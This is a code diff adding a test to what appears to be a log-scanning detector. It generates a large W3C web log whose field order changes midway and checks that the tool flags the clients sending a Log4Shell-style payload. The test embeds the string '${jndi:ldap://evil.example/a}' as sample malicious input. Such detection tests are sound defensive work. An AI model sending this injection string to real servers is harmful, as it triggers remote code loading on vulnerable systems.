@@ -39,6 +39,20 @@ FORMATS = {
 
 
 class Formats(Case):
+    def test_fields_named_amid_a_log_hold_for_what_follows_however_many_read_it(self):
+        wanted, lines = [], ["#Fields: date time c-ip cs-uri-stem cs(User-Agent)"]
+        for i in range(60000):  # several blocks before the change and behind it
+            client, agent = f"10.1.{i // 250}.{i % 250}", "${jndi:ldap://evil.example/a}" if i % 4999 == 0 else "Mozilla/5.0+(X11;+Linux+x86_64)"
+            if agent[0] == "$":
+                wanted.append(client)
+            if i == 30000:
+                lines.append("#Fields: date time cs(User-Agent) cs-uri-stem c-ip")
+            lines.append(f"2021-12-10 14:00:00 {client} /{i} {agent}" if i < 30000 else f"2021-12-10 14:00:00 {agent} /{i} {client}")
+        path = self.write("w3c.log", "\n".join(lines) + "\n")
+        self.assertGreater(os.path.getsize(path), 3 << 20)
+        for jobs in ("1", "8"):
+            self.assertEqual([e["source"]["ip"] for e in self.events("-j", jobs, path, status=1)], wanted, jobs)
+
     def test_each_format_is_recognised_and_judged(self):
         for name, (form, text) in FORMATS.items():
             with self.subTest(name):
